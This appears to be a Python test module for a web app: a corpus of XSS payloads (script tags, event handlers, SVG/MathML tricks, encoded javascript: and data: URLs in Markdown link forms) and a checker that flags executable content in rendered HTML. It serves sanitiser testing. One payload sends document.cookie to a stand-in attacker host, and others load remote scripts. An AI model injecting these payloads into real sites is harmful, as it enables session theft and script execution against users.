"""An XSS corpus and a checker that finds anything a browser would execute in a rendered page.

The corpus mixes hand-written vectors (script tags, event handlers, SVG/MathML, attribute breakouts,
mutation-XSS shapes) with generated ones: every dangerous URL (javascript:, vbscript:, data:) in several
cases and encodings, each placed in every way Markdown or HTML can carry a link. Payloads are data for the
tests; the checker is what decides, so a payload that comes out as harmless text passes whatever it was.

The checker parses the page the way a browser tokenises it (html.parser) and reports: a <script> or
<style> block that is not written literally in one of our templates, tags that run code or load a
document (iframe, object, embed, base, applet, frame, foreignObject; svg and math only through what
they carry), any on* attribute, srcdoc, a
meta refresh, and any URL-carrying attribute whose value (after entity decoding and the control characters
and whitespace browsers ignore) starts with javascript:, vbscript: or data:.
"""

from __future__ import annotations

import re
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"

# --------------------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------------------

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=\"https://evil.example/x.js\"></script>",
    "<script/xss>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</p></div><script>alert(1)</script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<script type=\"module\">import('https://evil.example/x.js')</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<img src=x onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=\"x\" onerror\n=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a onclick=alert(1)>click</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<p onpointerenter=alert(1)>x</p>",
    "<button onclick=\"alert(1)\">ok</button>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "x\" onerror=\"alert(1)\" y=\"",
    "\" autofocus onfocus=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)' x='",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<x onclick=alert(1)>click",
]

SVG_AND_OTHERS = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) />",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" />",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"  javascript:alert(1)\">click</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "{{ 7|add:7 }}{% csrf_token %}<img src=x onerror=alert(1)>",
    "${alert(1)}",
    "<img src=\"x\" alt=\"\"\" onerror=\"alert(1)\">",
]

# Dangerous URLs in every case and the encodings browsers (or Markdown) decode before looking at a scheme.
DANGEROUS_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106;&#0000097;vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "javascript:%61lert(1)",
    "javascript://example.org/%0Aalert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "Data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:application/javascript,alert(1)",
]

# Every way the posts' Markdown (or HTML typed into it) can carry a link or an image.
LINK_FORMS = [
    "[click here]({url})",
    "[click here](<{url}>)",
    "![picture]({url})",
    "<{url}>",
    "[click here][ref]\n\n[ref]: {url}",
    "<a href=\"{url}\">click</a>",
]

MARKDOWN_TRICKS = [
    "[click](http://example.org \"onmouseover=alert(1)\")",
    "[click](http://example.org\" onmouseover=\"alert(1))",
    "[click](http://example.org' onmouseover='alert(1))",
    "[<img src=x onerror=alert(1)>](http://example.org)",
    "[click](javascript:alert(1) \"title\")",
    "[click](javascript:window.onerror=alert;throw%201)",
    "[a](j a v a s c r i p t:alert(1))",
    "[click]( javascript:alert(1) )",
    "![x](x\" onerror=\"alert(1))",
    "![x\" onerror=\"alert(1)](http://example.org/x.png)",
    "[click](http://example.org/?<script>alert(1)</script>)",
    "[click](#\" onclick=\"alert(1))",
    "**<script>alert(1)</script>**",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "http://example.org/<script>alert(1)</script>",
    "<http://example.org/\" onmouseover=\"alert(1)>",
    "<mailto:x@example.org?subject=\"><script>alert(1)</script>>",
]


def _build_corpus() -> list[str]:
    payloads = [*SCRIPT_TAGS, *EVENT_HANDLERS, *SVG_AND_OTHERS, *MARKDOWN_TRICKS]
    payloads += [form.format(url=url) for url in DANGEROUS_URLS for form in LINK_FORMS]
    seen: set[str] = set()
    return [p for p in payloads if not (p in seen or seen.add(p))]


PAYLOADS: list[str] = _build_corpus()


# --------------------------------------------------------------------------------------------------------
# The checker
# --------------------------------------------------------------------------------------------------------

# <svg> and <math> are allowed through (the dashboard draws its charts in inline SVG): what makes them
# run code is a <script>, an on* attribute, a javascript: link or animation value, all checked below.
CODE_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "foreignobject",
             "isindex", "portal",
             # Raw-text elements a browser and a sanitiser may tokenise differently (mutation XSS).
             "noscript", "noembed", "noframes", "xmp", "plaintext"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
                  "codebase", "cite", "dynsrc", "lowsrc", "ping", "to", "from", "values", "manifest"}
JS_TYPES = {"", "module", "text/javascript", "application/javascript", "text/ecmascript",
            "application/ecmascript", "text/jscript", "text/livescript"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# Browsers drop these anywhere in a URL before reading its scheme (the URL spec's "strip" step, plus
# ASCII tab/newline removal).
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


_ACTIVE_CSS = re.compile(r"expression\s*\(|javascript:|vbscript:|@import|behavior\s*:|-moz-binding|url\s*\(",
                         re.IGNORECASE)


def normalise_url(value: str) -> str:
    return _URL_NOISE.sub("", value).lower()


@lru_cache(maxsize=1)
def template_blocks() -> frozenset[str]:
    """The literal <script>/<style> bodies written in our own templates: the only ones allowed out."""
    blocks: set[str] = set()
    pattern = re.compile(r"<(script|style)\b[^>]*>(.*?)</\1\s*>", re.IGNORECASE | re.DOTALL)
    for path in TEMPLATES.rglob("*.html"):
        for match in pattern.finditer(path.read_text(encoding="utf-8")):
            blocks.add(_squash(match.group(2)))
    return frozenset(blocks)


def _squash(text: str) -> str:
    return " ".join(text.split())


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self._block: str | None = None
        self._block_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        kind = (dict(attrs).get("type") or "").strip().lower()
        # A <script> whose type is not JavaScript (e.g. application/json) is a data block: never run.
        if tag == "style" or (tag == "script" and kind in JS_TYPES):
            self._block, self._block_text = tag, []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_data(self, data: str) -> None:
        if self._block is not None:
            self._block_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if self._block is not None and tag == self._block:
            body = _squash("".join(self._block_text))
            # Scripts: only our templates' own. Styles (a library's, e.g. the browsable API's syntax
            # colours) only matter when they can run or fetch something.
            if body and body not in template_blocks() and (tag == "script" or _ACTIVE_CSS.search(body)):
                self.findings.append(f"<{tag}> block not from our templates: {body[:120]!r}")
            self._block = None

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in CODE_TAGS and tag != "script":
            self.findings.append(f"<{tag}> element")
        if tag == "script" and any(name == "src" for name, _ in attrs):
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.findings.append(f"<script src={src!r}>")
        equiv = (dict(attrs).get("http-equiv") or "").strip().lower()
        if tag == "meta" and equiv in ("refresh", "set-cookie"):
            self.findings.append(f"<meta http-equiv> {attrs!r}")
        if tag == "link" and not (dict(attrs).get("href") or "").startswith("/static/"):
            self.findings.append(f"<link> to {dict(attrs).get('href')!r}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}=...> event handler")
            elif name == "srcdoc":
                self.findings.append(f"<{tag} srcdoc>")
            elif name in URL_ATTRIBUTES and any(
                # An SVG animation's values="a;b;c" is a list: each entry may become an href.
                normalise_url(part).startswith(DANGEROUS_SCHEMES)
                for part in (value.split(";") if name == "values" else [value])
            ):
                self.findings.append(f"<{tag} {name}={value[:80]!r}>")
            elif name == "style" and re.search(r"expression\s*\(|javascript:|url\s*\(", value, re.I):
                self.findings.append(f"<{tag} style={value[:80]!r}>")


def executable_parts(html: str) -> list[str]:
    """Everything in ``html`` a browser would run or that loads active content. Empty means safe."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.findings
